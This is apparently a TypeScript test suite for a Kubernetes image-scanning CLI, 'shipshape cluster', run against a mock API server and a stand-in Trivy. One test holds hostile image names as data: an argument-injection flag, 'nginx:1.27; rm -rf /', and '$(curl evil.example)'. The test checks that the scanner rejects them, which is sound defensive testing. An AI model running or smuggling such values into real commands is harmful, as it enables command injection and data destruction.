// Reading a cluster and `shipshape cluster`, against the test API server (test/k8s/apiServer.ts)
// and the stand-in Trivy.

import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ClusterUnavailable } from '../../../src/core/cluster/kubeconfig.js';
import { readCluster } from '../../../src/core/cluster/listing.js';
import { parseImageId } from '../../../src/core/cluster/pods.js';
import { runCli } from '../../support/cli.js';
import { corpusPods, failingExecPlugin, generatePods, startApiServer, unreachableServer, writeKubeconfig, type ApiServer, type Pod } from '../../support/apiServer.js';
import { imageScans, isAlive, STAND_IN, standInLog } from '../../support/trivy.js';

/** The distinct images the pods run: digest where the kubelet reported one, else the spec image. */
function expectedImages(pods: readonly Pod[]): Set<string> {
  const keys = new Set<string>();
  for (const pod of pods) {
    for (const type of ['containers', 'initContainers', 'ephemeralContainers'] as const) {
      const statuses = (pod.status as Record<string, { name: string; imageID?: string }[] | undefined> | undefined)?.[type === 'containers' ? 'containerStatuses' : type === 'initContainers' ? 'initContainerStatuses' : 'ephemeralContainerStatuses'] ?? [];
      for (const container of (pod.spec as Record<string, { name: string; image: string }[] | undefined>)[type] ?? []) {
        const id = parseImageId(statuses.find((s) => s.name === container.name)?.imageID);
        keys.add(id ? id.digest : `ref:${container.image}`);
      }
    }
  }
  return keys;
}

const CLI = path.resolve(__dirname, '..', '..', '..', 'dist', 'cli.js');

describe('reading a cluster', () => {
  let server: ApiServer;
  let pods: Pod[];
  before(async () => {
    pods = [...generatePods({ count: 60, distinctImages: 12, namespaces: ['shop', 'payments', 'secret'], seed: 7 }), ...corpusPods()];
    server = await startApiServer({ pods, forbiddenNamespaces: ['secret'] });
  });
  after(() => server.stop());

  test('every container image of every readable pod, deduplicated by digest, with its workloads; a forbidden namespace is reported', async () => {
    const inventory = await readCluster({ kubeconfig: [writeKubeconfig(server)], namespaces: ['shop', 'payments', 'secret', 'default', 'kube-system'] });
    const readable = pods.filter((p) => p.metadata?.namespace !== 'secret');
    assert.equal(inventory.pods, readable.length);
    assert.deepEqual(new Set(inventory.images.map((i) => i.digest ?? `ref:${i.specImages[0]}`)), expectedImages(readable));
    assert.deepEqual(inventory.errors.map((e) => e.namespace), ['secret']);
    assert.match(inventory.errors[0]!.message, /cannot list resource "pods" in API group "" in the namespace "secret"/);
    const deployments = inventory.images.flatMap((i) => i.workloads).filter((w) => w.kind === 'Deployment');
    assert.ok(deployments.length > 0 && deployments.every((w) => !/-[a-z0-9]{9,10}$/.test(w.name)), 'ReplicaSets are folded into their Deployments');
  });

  test('pages through the list with limit and continue', async () => {
    server.clearRequests();
    await readCluster({ kubeconfig: [writeKubeconfig(server)], namespaces: ['shop'], pageSize: 5 });
    const lists = server.requests().filter((r) => r.path === '/api/v1/namespaces/shop/pods');
    assert.ok(lists.length > 2);
    assert.ok(lists.every((r) => r.query['limit'] === '5'));
    assert.ok(lists.slice(1).every((r) => r.query['continue']));
  });

  test('an expired continue token starts the listing again, and nothing is counted twice', async () => {
    const total = pods.filter((p) => p.metadata?.namespace === 'shop').length;
    let calls = 0;
    const expiring = await startApiServer({
      pods,
      authorize: (a) => {
        if (a.resource === 'pods' && a.verb === 'list' && ++calls === 2) expiring.expireContinueTokens();
        return true;
      },
    });
    try {
      const inventory = await readCluster({ kubeconfig: [writeKubeconfig(expiring)], namespaces: ['shop'], pageSize: 5 });
      assert.equal(inventory.pods, total);
      assert.ok(expiring.requests().some((r) => r.status === 410), 'the server did expire a token');
    } finally {
      await expiring.stop();
    }
  });

  test('without a cluster-wide right, it lists namespace by namespace', async () => {
    const restricted = await startApiServer({ pods, clusterWideForbidden: true, forbiddenNamespaces: ['secret'] });
    try {
      const inventory = await readCluster({ kubeconfig: [writeKubeconfig(restricted)] });
      assert.equal(inventory.pods, pods.filter((p) => p.metadata?.namespace !== 'secret').length);
      assert.deepEqual(inventory.errors.map((e) => e.namespace), ['secret']);
    } finally {
      await restricted.stop();
    }
  });

  test('cancelled midway, the listing keeps the pods read so far and says it is partial', async () => {
    const controller = new AbortController();
    const slow = await startApiServer({ pods, latencyMs: 150 });
    try {
      const counts: number[] = [];
      const inventory = await readCluster({
        kubeconfig: [writeKubeconfig(slow)],
        namespaces: ['shop', 'payments'],
        pageSize: 5,
        signal: controller.signal,
        onPods: (n) => {
          counts.push(n);
          if (n >= 10) controller.abort();
        },
      });
      assert.equal(inventory.cancelled, true);
      assert.equal(inventory.pods, 10, `pages seen: ${counts.join(', ')}`);
      assert.ok(inventory.images.length > 0);
      const total = pods.filter((p) => ['shop', 'payments'].includes(p.metadata!.namespace!)).length;
      assert.ok(inventory.pods < total);
      assert.ok(!slow.requests().some((r) => r.path.includes('/namespaces/payments/')), 'nothing is listed after the cancellation');
    } finally {
      await slow.stop();
    }
  });

  test('a listing dropped or failing (5xx) midway is tried again and completes', async () => {
    const shop = pods.filter((p) => p.metadata?.namespace === 'shop').length;
    const faults = ['drop', 'error'] as const;
    for (const fault of faults) {
      const flaky = await startApiServer({ pods, fault: (r) => (r.path === '/api/v1/namespaces/shop/pods' && r.seen === 3 ? fault : undefined) });
      try {
        const inventory = await readCluster({ kubeconfig: [writeKubeconfig(flaky)], namespaces: ['shop'], pageSize: 5 });
        assert.equal(inventory.pods, shop, fault);
        assert.deepEqual(inventory.errors, [], fault);
        assert.ok(flaky.requests().some((r) => r.status === -1 || r.status === 500), `the ${fault} happened`);
      } finally {
        await flaky.stop();
      }
    }
  });

  test('a listing that keeps failing midway keeps the pages read, says where it broke off, and the other namespaces are read', async () => {
    const broken = await startApiServer({ pods, fault: (r) => (r.path === '/api/v1/namespaces/shop/pods' && r.query['continue'] && r.seen >= 3 ? 'drop' : undefined) });
    try {
      const inventory = await readCluster({ kubeconfig: [writeKubeconfig(broken)], namespaces: ['shop', 'payments'], pageSize: 5 });
      const payments = pods.filter((p) => p.metadata?.namespace === 'payments').length;
      assert.equal(inventory.pods, 10 + payments, 'two pages of shop, all of payments');
      assert.equal(inventory.errors.length, 1);
      assert.equal(inventory.errors[0]!.namespace, 'shop');
      assert.match(inventory.errors[0]!.message, /^the pod listing broke off after 10 pods \(.+\); the pods after those were not read$/);
    } finally {
      await broken.stop();
    }
  });

  test('an API server that stops answering: bounded by the request timeout, with what was read kept', async () => {
    const hanging = await startApiServer({ pods, fault: (r) => (r.path === '/api/v1/namespaces/shop/pods' && r.seen >= 2 ? 'hang' : undefined) });
    try {
      const kubeconfig = writeKubeconfig(hanging);
      const midway = await readCluster({ kubeconfig: [kubeconfig], namespaces: ['shop'], pageSize: 5, requestTimeoutMs: 1000 });
      assert.equal(midway.pods, 5);
      assert.match(midway.errors[0]!.message, /broke off after 5 pods \(the API server did not answer within 1 s\)/);
      // Hanging from the first page: nothing to keep, one clear message.
      const first = await readCluster({ kubeconfig: [kubeconfig], namespaces: ['shop'], pageSize: 5, requestTimeoutMs: 1000 }).then(() => assert.fail('no pods'), (e: unknown) => e);
      assert.ok(first instanceof ClusterUnavailable);
      assert.match(first.message, /Could not reach the cluster .*: the API server did not answer within 1 s\./);
    } finally {
      await hanging.stop();
    }
  });

  test('a page cut short (half its body, then the connection closes) ends at the request timeout, with the pages before it kept', async () => {
    // node-fetch (the client's HTTP layer) waits for the rest of such a body: the timeout is what ends it.
    const cut = await startApiServer({ pods, fault: (r) => (r.path === '/api/v1/namespaces/shop/pods' && r.seen === 3 ? 'truncate' : undefined) });
    try {
      const inventory = await readCluster({ kubeconfig: [writeKubeconfig(cut)], namespaces: ['shop'], pageSize: 5, requestTimeoutMs: 1000 });
      assert.equal(inventory.pods, 10);
      assert.match(inventory.errors[0]!.message, /broke off after 10 pods \(the API server did not answer within 1 s\)/);
    } finally {
      await cut.stop();
    }
  });

  test('an unreachable cluster, a refused token, a failing exec plugin, an unknown context: one clear message each', async () => {
    const kubeconfig = writeKubeconfig(server, {
      contexts: [
        { name: 'gone', server: await unreachableServer() },
        { name: 'expired', token: 'not-the-token' },
        { name: 'exec', exec: failingExecPlugin() },
      ],
    });
    const attempt = (context: string) => readCluster({ kubeconfig: [kubeconfig], context }).then(() => assert.fail(context), (e: unknown) => e);
    const gone = await attempt('gone');
    assert.ok(gone instanceof ClusterUnavailable);
    assert.match(gone.message, /Could not reach the cluster/);
    const expired = await attempt('expired');
    assert.ok(expired instanceof ClusterUnavailable);
    assert.ok(!expired.message.includes('not-the-token') && !expired.message.includes(server.token), 'no token in the message');
    assert.match(expired.message, /refused the credentials .*401/);
    const exec = await attempt('exec');
    assert.ok(exec instanceof ClusterUnavailable);
    const unknown = await attempt('nowhere');
    assert.ok(unknown instanceof ClusterUnavailable);
    assert.match(unknown.message, /no context "nowhere"; it has: shipshape-test, gone, expired, exec/);
  });
});

describe('shipshape cluster', () => {
  let server: ApiServer;
  let dir: string;
  let kubeconfig: string;
  const saved = process.env['SHIPSHAPE_CACHE_DIR'];
  before(async () => {
    server = await startApiServer({ pods: [...generatePods({ count: 30, distinctImages: 6, namespaces: ['shop', 'payments'], seed: 3 }), ...corpusPods()] });
    kubeconfig = writeKubeconfig(server);
  });
  after(() => server.stop());
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'shipshape-cluster-'));
    process.env['SHIPSHAPE_CACHE_DIR'] = dir;
  });
  afterEach(() => {
    if (saved === undefined) delete process.env['SHIPSHAPE_CACHE_DIR'];
    else process.env['SHIPSHAPE_CACHE_DIR'] = saved;
    rmSync(dir, { recursive: true, force: true });
  });

  const cluster = (...args: string[]) => runCli(['cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), ...args]);

  test('JSON: images with digests, workloads and counts; findings with deadlines, worst first', async () => {
    const run = await cluster('--format', 'json');
    assert.equal(run.code, 0, run.stderr);
    const report = JSON.parse(run.stdout) as { images: { reference: string; digest?: string; workloads: unknown[]; vulnerabilities?: Record<string, number> }[]; findings: { severity: string; deadline: string; breached: boolean; firstSeen: string }[] };
    assert.equal(report.images.length, expectedImages(server.pods()).size);
    assert.ok(report.images.every((i) => i.workloads.length > 0 && i.vulnerabilities));
    assert.ok(report.findings.length > 0);
    const order = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW', 'UNKNOWN'];
    for (let i = 1; i < report.findings.length; i++) {
      const [a, b] = [report.findings[i - 1]!, report.findings[i]!];
      assert.ok(order.indexOf(a.severity) < order.indexOf(b.severity) || (a.severity === b.severity && a.deadline <= b.deadline));
    }
    assert.ok(report.findings.every((f) => !f.breached));
  });

  test('first-seen dates survive between runs; --fail-on-breach with --from-published exits 1', async () => {
    const first = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
    const second = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
    assert.deepEqual(second.findings.map((f) => f.firstSeen), first.findings.map((f) => f.firstSeen));
    const breach = await cluster('--from-published', '--fail-on-breach', '--format', 'csv');
    assert.equal(breach.code, 1);
    assert.match(breach.stdout.split('\r\n')[0]!, /^image,digest,namespaces,workloads,vulnerability,severity,package,installed,fixed,first seen,deadline,breached$/);
    assert.match(breach.stdout, /,true\r\n/);
  });

  test('markdown, SARIF and table formats; --output writes the file', async () => {
    assert.match((await cluster('--format', 'markdown')).stdout, /^# Shipshape cluster report: shipshape-test/);
    const sarif = JSON.parse((await cluster('--format', 'sarif')).stdout) as { version: string; runs: { results: unknown[] }[] };
    assert.equal(sarif.version, '2.1.0');
    assert.ok(sarif.runs[0]!.results.length > 0);
    assert.match((await cluster()).stdout, /^Cluster shipshape-test \(https:\/\/127\.0\.0\.1:\d+\): \d+ pods, \d+ distinct images/);
  });

  test('SIGTERM (a CronJob deadline) stops the scans, writes the partial report, exits 2 and leaves no Trivy behind', async () => {
    // The built CLI in its own process: the test runner has SIGTERM handlers of its own.
    const log = standInLog({ TRIVY_STANDIN_DELAY_MS: '20000' });
    try {
      const child = spawn(process.execPath, [CLI, 'cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'json', '--concurrency', '2'], { env: process.env });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
      for (let i = 0; i < 300 && imageScans(log.invocations()).length < 2; i++) await new Promise((r) => setTimeout(r, 50));
      assert.equal(imageScans(log.invocations()).length, 2, 'two scans are running');
      child.kill('SIGTERM');
      assert.equal(await exited, 2, stderr);
      const report = JSON.parse(stdout) as { partial?: boolean; images: unknown[]; errors: { image?: string; message: string }[] };
      assert.equal(report.partial, true);
      assert.equal(report.images.length, expectedImages(server.pods()).size, 'the listed images are all in the report');
      assert.ok(report.errors.some((e) => /^Cancelled: this report is partial; \d+ images were not scanned/.test(e.message)), JSON.stringify(report.errors));
      assert.match(stderr, /this report is partial/);
      await new Promise((r) => setTimeout(r, 300));
      assert.deepEqual(imageScans(log.invocations()).filter((i) => isAlive(i.pid)).map((i) => i.pid), []);
    } finally {
      log.restore();
    }
  });

  test('hostile image names from the cluster are never passed to Trivy; each is an error, the rest is scanned', async () => {
    const hostile = ['--output=/tmp/owned', 'nginx:1.27; rm -rf /', '$(curl evil.example)', 'nginx\n:1', 'registry.example/app with space:1'];
    const base = generatePods({ count: 4, distinctImages: 2, namespaces: ['shop'], seed: 5 });
    const evil = hostile.map((image, i) => {
      const pod = structuredClone(base[0]!);
      pod.metadata = { ...pod.metadata, name: `evil-${i}`, uid: `00000000-0000-4000-8000-00000000000${i}` };
      pod.spec!.containers = [{ ...pod.spec!.containers![0]!, image }];
      pod.status = { ...pod.status, containerStatuses: [] };
      return pod;
    });
    const hostileServer = await startApiServer({ pods: [...base, ...evil] });
    const log = standInLog();
    try {
      const run = await runCli(['cluster', '--kubeconfig', writeKubeconfig(hostileServer), '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'json']);
      assert.equal(run.code, 0, run.stderr);
      const report = JSON.parse(run.stdout) as { images: { reference: string; vulnerabilities?: object }[]; errors: { image?: string; message: string }[] };
      for (const image of hostile) {
        const error = report.errors.find((e) => e.image === image);
        assert.ok(error, `an error for ${JSON.stringify(image)}`);
        assert.match(error.message, /is not a valid image reference: not scanned/);
      }
      assert.ok(report.images.some((i) => i.vulnerabilities), 'the others are scanned');
      const argv = imageScans(log.invocations()).flatMap((i) => i.argv);
      assert.ok(argv.length > 0);
      for (const image of hostile) assert.ok(!argv.includes(image), `${JSON.stringify(image)} never reached a process`);
    } finally {
      log.restore();
      await hostileServer.stop();
    }
  });

  test('no cluster, bad arguments: exit 2 with the reason', async () => {
    const gone = await runCli(['cluster', '--kubeconfig', path.join(dir, 'missing.yaml')]);
    assert.equal(gone.code, 2);
    assert.match(gone.stderr, /Could not read the kubeconfig/);
    assert.equal((await cluster('--format', 'xml')).code, 2);
    assert.equal((await cluster('--sla', 'CRITICAL=soon')).code, 2);
    assert.match((await cluster('--request-timeout', '0')).stderr, /--request-timeout expects a whole number from 1 to 3600/);
  });
});
